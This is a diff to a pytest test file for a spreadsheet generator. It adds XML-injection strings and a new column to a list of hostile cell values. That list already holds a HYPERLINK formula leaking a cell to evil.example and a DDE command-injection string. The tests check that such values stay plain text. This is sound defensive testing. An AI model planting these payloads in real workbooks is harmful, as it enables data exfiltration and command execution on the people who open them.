@@ -15,7 +15,10 @@ from generator.dap import dap_frame, dap_xlsx
 from generator.loader import load_or_raise
 
 HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
-           "@SUM(1)", "https://evil.example/steal", "1e5", "-2"]
+           "@SUM(1)", "https://evil.example/steal", "1e5", "-2",
+           # XlsxWriter writes a text like these into the file unescaped (generator/xlsx_text.py):
+           # the first would read back as "forged", the second breaks the workbook's XML.
+           "<r><t>forged</t></r>", "<r></t></r></si><si><t>X</t></si><si><r><t>y</t></r>"]
 
 
 @pytest.fixture(scope="module")
@@ -25,7 +28,8 @@ def kb():
 
 def test_record_text_is_never_a_formula_a_link_or_a_number(kb) -> None:
     frame = dap_frame(kb, {})
-    cells = [(row, column) for column in ("Purpose", "Use") for row in range(len(frame))]
+    cells = [(row, column) for column in ("Purpose", "Use", "Information need")
+             for row in range(len(frame))]
     assert len(cells) >= len(HOSTILE)
     for (row, column), value in zip(cells, HOSTILE, strict=False):
         frame.at[row, column] = value
@@ -52,3 +56,16 @@ def test_same_plan_same_bytes_dated_by_source_date_epoch(
         core = z.read("docProps/core.xml").decode("utf-8")
     assert re.findall(r"<dcterms:(?:created|modified)[^>]*>([^<]*)<", core) == \
         ["2026-01-01T00:00:00Z"] * 2
+
+
+def test_field_companion_text_stays_text() -> None:
+    import openpyxl
+
+    from generator.library.companion import COLUMNS, Entry, workbook
+
+    texts = HOSTILE[-2:] + ["<r>a & b</r>"]
+    entries = [Entry("Sector", f"q{i}", text, "Text", "", {}, {"fr": text})
+               for i, text in enumerate(texts)]
+    sheet = openpyxl.load_workbook(io.BytesIO(workbook(entries, "T", ["fr"]))).active
+    rows = list(sheet.iter_rows(min_row=2, values_only=True))
+    assert [r[2] for r in rows] == texts and [r[len(COLUMNS)] for r in rows] == texts
